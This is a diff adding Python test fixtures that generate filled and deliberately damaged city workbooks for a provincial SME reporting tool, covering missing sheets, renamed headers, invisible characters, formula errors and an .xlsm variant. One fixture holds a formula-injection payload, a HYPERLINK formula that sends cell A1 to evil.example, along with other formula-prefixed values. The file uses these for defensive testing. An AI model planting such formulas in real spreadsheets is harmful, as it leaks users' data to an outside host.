@@ -330,6 +330,185 @@ def make_wrong_template(d: Path) -> Path:
     return plain_xlsx(d / "统计表.xlsx", sheets=("企业统计", "汇总"))
 
 
+# --------------------------------------------------------------------------
+# A filled city workbook, and partial damage to it
+# --------------------------------------------------------------------------
+
+ENTERPRISE = "南京恒远精密机械有限公司"
+PLATFORM = "江苏省中小企业公共服务中心"
+INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+def _credit_code(body: str = "91320100MA1XK5R3D") -> str:
+    from stdnum.cn import uscc
+    return body + uscc.calc_check_digit(body)
+
+
+def city_rows(spec, year: int = 2026) -> dict[str, list[dict]]:
+    """One plausible record per table, keyed by field key (values as a city types them).
+
+    Two slips are left in on purpose, far from where the damage variants strike, so a
+    test can see the rest of the workbook was still checked: 附5 邮政编码 has five digits
+    (a5.postcode) and 260 staff is too few for 中型 in manufacturing (a3.size_staff).
+    """
+    import datetime as dt
+    y1, y2 = year - 1, year - 2
+    a4 = {"name": ENTERPRISE}
+    vals = {"main_rev_share": (92, 93, 94), "export_share": (10, 12, 14), "foreign_certs": (2, 3, 4),
+            "rd_share": (6.5, 7, 7.5), "patents": (12, 15, 18), "rd_institutions": (2, 2, 3),
+            "standards": (3, 4, 5), "rd_conversions": (5, 7, 9), "quality_certs": (3, 3, 4),
+            "standard_level": ("是",) * 3, "digital": ("是",) * 3, "ipo_plan": ("无", "无", "已进入辅导期"),
+            "growth": (12, 15, 18)}
+    for ind, triple in vals.items():
+        for (period, _), v in zip(spec.periods, triple):
+            a4[f"{ind}_{period}"] = v
+    return {
+        "a1": [{"seq": 1, "name": ENTERPRISE, "miit_batch": "第三批"}],
+        "a2": [{"seq": 1, "name": PLATFORM, "content": "融资对接、技术咨询、人才培训",
+                "doc_no": "工信部企业函〔2020〕123号"}],
+        "a3": [{"name": ENTERPRISE, "legal_rep": "王建国", "credit_code": _credit_code(), "staff": 260,
+                "reg_date": dt.datetime(2008, 5, 12), "capital": 5000, "size": "中型", "ownership": "民营",
+                "industry": "C34 通用设备制造业", "segment": "精密减速器", "product_category": "3441020100 气体压缩机",
+                "product_name": "RV减速器", "four_base": "是", "four_base_category": "核心基础零部件（元器件）",
+                "fill_gap": "填补国内空白", "fill_gap_field": "精密减速器", "shortboard": "否",
+                "intro": "企业专注精密减速器研发制造，拥有发明专利12项，产品用于工业机器人。"}],
+        "a4": [a4],
+        "a5_basic": [{"unit": PLATFORM, "reg_date": dt.datetime(2012, 6, 18), "nature": "事业单位",
+                      "legal_rep": "李明", "address": "南京市鼓楼区中山路1号", "postcode": "21000",
+                      "contact": "张华", "phone": "025-83331234", "mobile": "13912345678",
+                      "email": "service@example.cn"}],
+        "a5_ops": [{"unit": PLATFORM, "year": y, "revenue": 3000, "service_revenue": 2000, "assets": 8000,
+                    "profit": 300, "tax": 120} for y in (y1, y2)],
+        "a5_res": [{"unit": PLATFORM, "resource": "南京某某投资有限公司", "field": "资金"}],
+        "a5_tot": [{"unit": PLATFORM, "year": y, "activities": 20, "enterprise_visits": 150, "agreements": 30,
+                    "agreement_amount": 600} for y in (y1, y2)],
+        "a5_srv": [{"unit": PLATFORM, "seq": 1, "enterprise": ENTERPRISE, "contact": "王建国",
+                    "phone": "13812345678", "summary": "融资对接", "satisfaction": "满意"}],
+    }
+
+
+def fill_city(path: Path, *, city: str = "南京市", rows: dict | None = None, edit=None) -> Path:
+    """Build the template at ``path`` and type one record into every table (like a city does).
+
+    ``edit(wb, spec)`` may damage the workbook before it is saved.
+    """
+    import datetime as dt
+    import openpyxl
+    from xjr_excel.guard import set_text
+    from xjr_excel.spec import get_spec
+    spec = get_spec()
+    template_xlsx(path, city=city)
+    wb = openpyxl.load_workbook(path, keep_vba=path.suffix == ".xlsm")
+    cover = wb[spec.sheet("cover").name]
+    values = {"department": f"{city}工业和信息化局", "contact": "赵敏", "phone": "025-83330000",
+              "filled_on": dt.datetime(2026, 5, 20)}
+    for r in range(1, cover.max_row + 1):
+        label = cover.cell(row=r, column=1).value
+        for cf in spec.cover:
+            if label == cf.label and cf.key in values:
+                cover.cell(row=r, column=2).value = values[cf.key]
+    plan = wb[spec.sheet("plan").name]
+    t = spec.table("plan")
+    for r in range(t.header_row + 1, plan.max_row + 1):
+        if plan.cell(row=r, column=t.first_col + 1).value:
+            plan.cell(row=r, column=t.first_col + 3).value = "本市建立专精特新企业培育库，落实财政奖补，开展点对点服务。"
+    for key, records in (rows or city_rows(spec)).items():
+        t = spec.table(key)
+        ws = wb[spec.sheet(t.sheet).name]
+        for i, rec in enumerate(records):
+            for j, f in enumerate(t.fields):
+                if f.key in rec:
+                    set_text(ws.cell(row=t.header_row + 1 + i, column=t.first_col + j), rec[f.key])
+    if edit:
+        edit(wb, spec)
+    wb.save(path)
+    return path
+
+
+def make_city(d: Path) -> Path:
+    return fill_city(d / "南京市.xlsx")
+
+
+def _table_cell(wb, spec, key: str, field: str, row: int = 0):
+    t = spec.table(key)
+    ws = wb[spec.sheet(t.sheet).name]
+    col = t.first_col + [f.key for f in t.fields].index(field)
+    return ws.cell(row=t.header_row + 1 + row, column=col)
+
+
+def make_missing_sheet(d: Path) -> Path:
+    """附2 deleted (the platform list): the rest must still be checked."""
+    def edit(wb, spec):
+        del wb[spec.sheet("a2").name]
+    return fill_city(d / "南京市_缺附2.xlsx", edit=edit)
+
+
+def make_renamed_column(d: Path) -> Path:
+    """附3's 统一社会信用代码 header retyped as 信用代码号 (the column is no longer ours)."""
+    def edit(wb, spec):
+        t = spec.table("a3")
+        ws = wb[spec.sheet("a3").name]
+        ws.cell(row=t.header_row, column=t.first_col + [f.key for f in t.fields].index("credit_code")).value = "信用代码号"
+    return fill_city(d / "南京市_改列名.xlsx", edit=edit)
+
+
+def make_long_cell(d: Path) -> Path:
+    """附3 企业简介 at Excel's 32,767-character cell limit."""
+    def edit(wb, spec):
+        _table_cell(wb, spec, "a3", "intro").value = "测" * 32767
+    return fill_city(d / "南京市_超长单元格.xlsx", edit=edit)
+
+
+def make_odd_text(d: Path) -> Path:
+    """Zero-width and control characters pasted into names (Excel stores a control char as _x0007_)."""
+    def edit(wb, spec):
+        _table_cell(wb, spec, "a1", "name").value = ENTERPRISE + "\u200b"
+        _table_cell(wb, spec, "a3", "segment").value = "精密_x0007_减速器"
+    return fill_city(d / "南京市_不可见字符.xlsx", edit=edit)
+
+
+def make_formula_errors(d: Path) -> Path:
+    """附4 initial values that are formula errors (#DIV/0!, #REF!)."""
+    def edit(wb, spec):
+        _table_cell(wb, spec, "a4", "main_rev_share_i0").value = "#DIV/0!"
+        _table_cell(wb, spec, "a4", "rd_share_i0").value = "#REF!"
+    return fill_city(d / "南京市_公式错误.xlsx", edit=edit)
+
+
+def make_formula_injection(d: Path) -> Path:
+    """City text that a spreadsheet would run: =HYPERLINK(…), +…, @…, -…"""
+    rows = city_rows(__import__("xjr_excel.spec", fromlist=["get_spec"]).get_spec())
+    rows["a1"][0]["name"] = INJECTION
+    rows["a3"][0]["name"] = INJECTION
+    rows["a4"][0]["name"] = INJECTION
+    rows["a3"][0]["segment"] = "@SUM(1,2)"
+    rows["a3"][0]["product_name"] = "+1+1"
+    rows["a2"][0]["content"] = "-1+1 服务"
+    return fill_city(d / "苏州市.xlsx", city="苏州市", rows=rows)
+
+
+def make_xlsm_vba(d: Path) -> Path:
+    """A city .xlsm carrying a VBA project (our ribbon macros): merged as data, never run."""
+    return fill_city(d / "无锡市.xlsm", city="无锡市")
+
+
+def make_duplicate(d: Path) -> Path:
+    """The same city sent twice (identical bytes under two names); returns the folder."""
+    a = make_city(d)
+    shutil.copy(a, d / "南京市(1).xlsx")
+    return d
+
+
+def make_xls_city(d: Path) -> Path:
+    """A filled city workbook saved as legacy .xls by LibreOffice."""
+    from xjr_excel import render
+    (d / "_src").mkdir()
+    src = fill_city(d / "_src" / "常州市.xlsx", city="常州市")
+    out = render.convert(src, d, "xls")
+    shutil.rmtree(d / "_src")
+    return out
+
+
 KINDS = {
     "empty": make_empty, "truncated": make_truncated, "renamed_csv": make_renamed_csv,
     "html_xls": make_html_xls, "pdf": make_pdf, "png": make_png, "docx": make_docx, "ods": make_ods,
@@ -339,6 +518,10 @@ KINDS = {
     "external_entity": make_external_entity, "huge_dimension": make_huge_dimension, "many_rows": make_many_rows,
     "encrypted": make_encrypted, "xls": make_xls, "encrypted_xls": make_encrypted_xls,
     "wrong_template": make_wrong_template,
+    "city": make_city, "missing_sheet": make_missing_sheet, "renamed_column": make_renamed_column,
+    "long_cell": make_long_cell, "odd_text": make_odd_text, "formula_errors": make_formula_errors,
+    "formula_injection": make_formula_injection, "xlsm_vba": make_xlsm_vba, "duplicate": make_duplicate,
+    "xls_city": make_xls_city,
 }
 
 
